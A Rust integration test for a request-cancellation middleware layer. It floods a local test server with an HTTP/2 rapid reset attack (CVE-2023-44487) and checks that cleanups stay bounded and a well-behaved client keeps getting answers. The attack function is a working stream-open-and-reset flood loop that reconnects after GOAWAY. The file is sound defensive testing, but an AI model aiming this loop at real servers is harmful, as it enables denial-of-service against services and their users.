//! HTTP/2 rapid reset (CVE-2023-44487) against a route with async cleanups: an attacker opens
//! and resets streams as fast as it can (HEADERS then RST_STREAM, with the `h2` crate, the way
//! the attack is written), reconnecting whenever the server sends it away. Meanwhile a
//! well-behaved client on its own connection keeps making requests.
//!
//! Checked: every well-behaved request succeeds (its latency percentiles are printed); async
//! cleanups never run more than the layer's limit at once, and every cancellation's cleanup is
//! either run or counted as refused, none lost. `cargo test --test rapid_reset` sends 20 000
//! resets; the full 100 000: `cargo test --release --test rapid_reset -- --ignored --nocapture`.
//! `RAPID_RESETS` overrides either count.

mod common;

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use common::*;
use http::{Request, Response};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use tokio::net::TcpStream;
use tower::{Layer, service_fn};
use tower_cancel::{CancellationLayer, Cancelled};

const RUNNING: usize = 4;
const QUEUED: usize = 64;

#[derive(Default)]
struct Stats {
    /// Requests the layer cancelled (its sync callback).
    cancelled: AtomicU64,
    /// Async cleanups that ran to their end.
    cleaned: AtomicU64,
    /// Async cleanups running now, and the most seen at once.
    running: AtomicUsize,
    most_running: AtomicUsize,
}

/// `/fast` answers at once; anything else waits until dropped.
fn app() -> impl tower::Service<
    Request<Incoming>,
    Response = Response<Full<Bytes>>,
    Error = Infallible,
    Future = impl Send,
> + Clone {
    service_fn(|req: Request<Incoming>| async move {
        if req.uri().path() != "/fast" {
            std::future::pending::<()>().await;
        }
        Ok::<_, Infallible>(Response::new(Full::new(Bytes::from_static(b"ok"))))
    })
}

/// Streams opened before they are reset, in one go.
const BATCH: usize = 100;

/// Opens and resets `resets` streams, `BATCH` at a time, reconnecting after each GOAWAY or
/// error. With `accepted`, it gives the server a moment to accept each batch (so every reset
/// cancels a running handler); without, it resets each stream right behind its HEADERS, which
/// hyper's own rapid-reset guard answers with GOAWAY. Returns the connections it needed.
async fn attack(addr: SocketAddr, resets: u64, accepted: bool) -> u64 {
    let mut sent = 0;
    let mut connections = 0;
    while sent < resets {
        connections += 1;
        let stream = TcpStream::connect(addr).await.unwrap();
        stream.set_nodelay(true).unwrap();
        let Ok((mut client, connection)) = h2::client::handshake(stream).await else {
            continue;
        };
        let driver = tokio::spawn(async move {
            let _ = connection.await;
        });
        let mut open = Vec::with_capacity(BATCH);
        'connection: while sent < resets {
            while open.len() < BATCH && sent + (open.len() as u64) < resets {
                client = match client.ready().await {
                    Ok(client) => client,
                    Err(_) => break 'connection,
                };
                let request = Request::get(format!("http://{addr}/slow"))
                    .body(())
                    .unwrap();
                let Ok((response, stream)) = client.send_request(request, false) else {
                    break 'connection;
                };
                if accepted {
                    open.push((response, stream));
                } else {
                    let mut stream = stream;
                    stream.send_reset(h2::Reason::CANCEL);
                    drop(response);
                    sent += 1;
                    if sent % BATCH as u64 == 0 {
                        // Let the connection task write what was queued.
                        tokio::task::yield_now().await;
                    }
                }
            }
            if accepted {
                tokio::time::sleep(Duration::from_millis(1)).await;
                for (_response, mut stream) in open.drain(..) {
                    stream.send_reset(h2::Reason::CANCEL);
                    sent += 1;
                }
            }
        }
        // Streams of a connection that failed mid-batch count as sent: they were opened.
        sent += open.len() as u64;
        open.clear();
        driver.abort();
    }
    connections
}

/// Waits until `count` has not changed for 100 ms.
async fn settled(count: &AtomicU64) {
    let mut last = count.load(Ordering::SeqCst);
    loop {
        tokio::time::sleep(Duration::from_millis(100)).await;
        let now = count.load(Ordering::SeqCst);
        if now == last {
            return;
        }
        last = now;
    }
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    sorted[((sorted.len() - 1) as f64 * p).round() as usize]
}

async fn rapid_reset(resets: u64, accepted: bool) {
    let stats = Arc::new(Stats::default());
    let (s1, s2) = (stats.clone(), stats.clone());
    let layer = CancellationLayer::new()
        .max_running_cleanups(RUNNING)
        .max_queued_cleanups(QUEUED)
        .on_cancel(move |_: &Cancelled| {
            s1.cancelled.fetch_add(1, Ordering::SeqCst);
        })
        .on_cancel_async(move |_: Cancelled| {
            let stats = s2.clone();
            async move {
                let now = stats.running.fetch_add(1, Ordering::SeqCst) + 1;
                stats.most_running.fetch_max(now, Ordering::SeqCst);
                // Stands for a cleanup that does I/O.
                tokio::time::sleep(Duration::from_millis(1)).await;
                stats.running.fetch_sub(1, Ordering::SeqCst);
                stats.cleaned.fetch_add(1, Ordering::SeqCst);
            }
        });
    let server = Server::start(layer.clone().layer(app())).await;

    let attacker = tokio::spawn(attack(server.addr, resets, accepted));
    // The well-behaved client, on its own connection, for as long as the attack lasts.
    let (mut h2, _conn, _socket) = h2_client(&server).await;
    let mut latencies = Vec::new();
    let started = Instant::now();
    while !attacker.is_finished() {
        let begin = Instant::now();
        let response = tokio::time::timeout(PATIENCE, h2.send_request(h2_get(&server, "/fast")))
            .await
            .expect("the server answered the well-behaved client")
            .expect("the well-behaved request succeeded");
        let body = response.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(&body[..], b"ok");
        latencies.push(begin.elapsed());
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    let connections = attacker.await.unwrap();
    let attack_time = started.elapsed();

    // The server is still tearing down the attack's last connections (their streams cancel
    // as they go): wait until every connection is closed and the count stops moving.
    drop(h2);
    server.idle().await;
    settled(&stats.cancelled).await;

    // Every cancellation's cleanup ends up run or refused.
    let counts = layer
        .drain_cleanups(PATIENCE)
        .await
        .expect("the cleanups drained");
    let cancelled = stats.cancelled.load(Ordering::SeqCst);
    let cleaned = stats.cleaned.load(Ordering::SeqCst);
    latencies.sort();
    println!(
        "rapid reset ({}): {resets} resets on {connections} connection(s) in {attack_time:.1?}; \
         {cancelled} reached the layer and were cancelled; cleanups: {} run, {} refused, at \
         most {} at once (limit {RUNNING}); well-behaved client: {} requests, p50 {:.1?}, p99 \
         {:.1?}, max {:.1?}",
        if accepted {
            "each batch accepted, then reset"
        } else {
            "reset behind HEADERS"
        },
        counts.completed,
        counts.refused,
        stats.most_running.load(Ordering::SeqCst),
        latencies.len(),
        percentile(&latencies, 0.5),
        percentile(&latencies, 0.99),
        latencies.last().unwrap(),
    );
    assert!(!latencies.is_empty());
    if !accepted {
        // Resets right behind HEADERS are what hyper's own guard is for: it sent the attacker
        // away (GOAWAY) and the attack needed new connections.
        assert!(connections > 1, "the attack was never sent away");
    }
    if accepted {
        // Accepted first, most resets cancel a handler: about half in a debug build, all in
        // release. Some batches still meet hyper's guard (a reset before the stream was
        // accepted) and are sent away with the connection.
        assert!(
            cancelled >= resets / 10,
            "only {cancelled} of {resets} reached the layer"
        );
    }
    assert!(
        stats.most_running.load(Ordering::SeqCst) <= RUNNING,
        "cleanups ran past the limit"
    );
    assert_eq!(
        counts.completed + counts.refused,
        cancelled,
        "every cancellation's cleanup was run or refused"
    );
    assert_eq!(
        counts.completed, cleaned,
        "the counted cleanups are the ones that ran"
    );
}

fn resets(default: u64) -> u64 {
    std::env::var("RAPID_RESETS").map_or(default, |n| n.parse().expect("RAPID_RESETS"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rapid_reset_behind_headers() {
    rapid_reset(resets(20_000), false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rapid_reset_of_accepted_streams() {
    rapid_reset(resets(20_000), true).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "100 000 resets: run with `cargo test --release --test rapid_reset -- --ignored --nocapture`"]
async fn rapid_reset_full() {
    rapid_reset(resets(100_000), false).await;
    rapid_reset(resets(100_000), true).await;
}
